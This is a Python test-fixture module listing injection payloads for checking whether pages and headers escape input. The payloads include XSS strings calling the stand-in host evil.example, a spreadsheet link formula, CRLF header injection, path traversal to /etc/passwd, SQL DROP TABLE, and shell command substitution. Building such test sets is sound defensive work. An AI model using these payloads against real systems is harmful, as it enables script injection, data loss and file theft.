"""Payloads: texts that do harm wherever one of them reaches a page, a header or a command as it is.

Each has MARK in whatever it would add, so that a page can be asked whether it was added.
"""

from __future__ import annotations

import re

MARK = "xssq"
EVIL_HOST = "evil.example"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{MARK}()</script>",
    "script at another place": f'<ScRiPt/src="https://{EVIL_HOST}/{MARK}.js"></sCrIpT >',
    "end of a script": f"</script><script>{MARK}()</script>",
    "end of JSON": f'"}}]}}</script><script>{MARK}()</script><!--',
    "end of a title": f"</title></style></textarea><img src={MARK} onerror={MARK}()>",
    "double quotes": f'" onmouseover="{MARK}()" data-{MARK}="',
    "single quotes": f"' onfocus='{MARK}()' autofocus data-{MARK}='",
    "no quotes": f"x onclick={MARK}() data-{MARK}=1",
    "handler": f"<img src=x onerror={MARK}()>",
    "handler without blanks": f"<svg/onload={MARK}()>",
    "SVG": f'<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:{MARK}()"/></svg>',
    "frame": f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    "base": f'<base href="https://{EVIL_HOST}/"><meta http-equiv="refresh" content="0;url=//x">',
    "form": f'<form action="https://{EVIL_HOST}/{MARK}"><button formaction="javascript:1">',
    "comment": f"<!--><img src={MARK} onerror={MARK}()>-->",
    "entities": f"&lt;script&gt;{MARK}()&lt;/script&gt;&quot; onclick=&#x22;{MARK}()",
    "half a tag": f"<img src=x onerror={MARK}() {MARK}",
    "style": f'<style>*{{background:url("https://{EVIL_HOST}/{MARK}")}}</style>',
    "CSS": f'red;}} body{{background:url(//{EVIL_HOST}/{MARK})}} @import "//{EVIL_HOST}";',
    "javascript address": f"javascript:{MARK}()//",
    "JavaScript address": f"JaVaScRiPt&colon;{MARK}()",
    "javascript address with blanks": f" \tjava\nscript:{MARK}()",
    "data address": f"data:text/html,<script>{MARK}()</script>",
    "vbscript address": f"vbscript:{MARK}()",
    "address of another host": f"//{EVIL_HOST}/{MARK}",
    "address with a backslash": f"/\\{EVIL_HOST}/{MARK}",
    "address with a name": f"https://shop.example@{EVIL_HOST}/{MARK}",
    "address with a quote": f'https://pictures.example/a.jpg" onerror="{MARK}()',
    "address of a file": "file:///etc/passwd",
    "path": "../../../../../../etc/passwd",
    "escaped path": "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "path with backslashes": "..\\..\\..\\windows\\win.ini",
    "template": "{{7*7}}{% raw %}{{config}}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s%n%d {0.__class__} {query!r}",
    "SQL": "'; DROP TABLE products; --",
    "SQL quotes": '" OR ""="\' OR 1=1 UNION SELECT 1,2,3 -- `',
    "query of Elasticsearch": '{"match_all": {}} title:* AND _exists_:id OR /.*/ ~5^9',
    "line ends": f"a\r\nSet-Cookie: {MARK}=1\r\nLocation: https://{EVIL_HOST}/\r\n\r\n<html>",
    "other line ends": f"a\u2028Set-Cookie: {MARK}=1\u2029b\x85c\x0bd\x0ce",
    "null": f"a\x00<script>{MARK}()</script>",
    "turned text": "\u202egpj.exe\u202c \u2066a\u2069 \u200f\u061c",
    "unseen": "a\ufeff\u200b\u2060\u00ad\ufffe\uffff",
    "piled up": "Z\u0351\u036b\u0343\u036a" * 50,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e6",
    "wide": "＜script＞alert（1）＜/script＞",
    "shell": "$(touch /tmp/xssq) `id` | id; id && id",
    "spreadsheet": '=HYPERLINK("https://evil.example","x")',
    "long": "<b>" * 2_000,
    "long word": "a" * 8_000,
}  # fmt: skip

BROWSER = (
    "script", "end of JSON", "end of a title", "double quotes", "handler", "frame", "base",
    "javascript address", "data address", "address with a quote", "style",
)  # fmt: skip
"""The names of those that are shown to a real browser."""


def harmless(payload: str) -> str:
    """Return a text of the same length and with the same blanks that can do nothing."""
    return re.sub(r"\S", "x", payload)
